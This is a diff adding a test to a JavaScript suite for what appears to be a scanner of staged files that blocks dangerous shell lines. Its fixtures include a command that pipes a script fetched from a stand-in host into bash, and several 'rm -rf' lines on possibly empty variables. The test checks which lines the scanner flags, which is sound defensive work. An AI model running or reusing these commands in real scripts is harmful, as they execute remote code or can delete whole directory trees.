@@ -111,3 +111,20 @@ test("a script without extension is read through its shebang", async () => {
   const { found } = await stagedFindings({ "bin/setup": "#!/usr/bin/env bash\nbash <(curl -s https://x.example.invalid/i)\n" });
   expect(found).toEqual(["bin/setup:2 shell-exec-remote-script block"]);
 });
+
+test("a variable the script guarantees non-empty on an earlier line is guarded; later guards do not count", async () => {
+  const script = [
+    "#!/bin/sh",
+    'rm -rf "$EARLY/"',
+    "APP_ROOT=/srv/app",
+    ': "${STAGE:?set STAGE}"',
+    'rm -rf "$APP_ROOT/"',
+    'rm -rf "$STAGE"/*',
+    'rm -rf "${EARLY:?}/cache"',
+    "OUT=$1",
+    'rm -rf "$OUT/"',
+  ].join("\n");
+  const makefile = ["BUILD ?= build", "clean:", "\trm -rf $(BUILD)/", "\trm -rf $(UNSET_DIR)/"].join("\n");
+  const { found } = await stagedFindings({ "clean.sh": `${script}\n`, Makefile: `${makefile}\n` });
+  expect(found).toEqual(["Makefile:4 rm-rf-unguarded-variable block", "clean.sh:2 rm-rf-unguarded-variable block", "clean.sh:9 rm-rf-unguarded-variable block"]);
+});
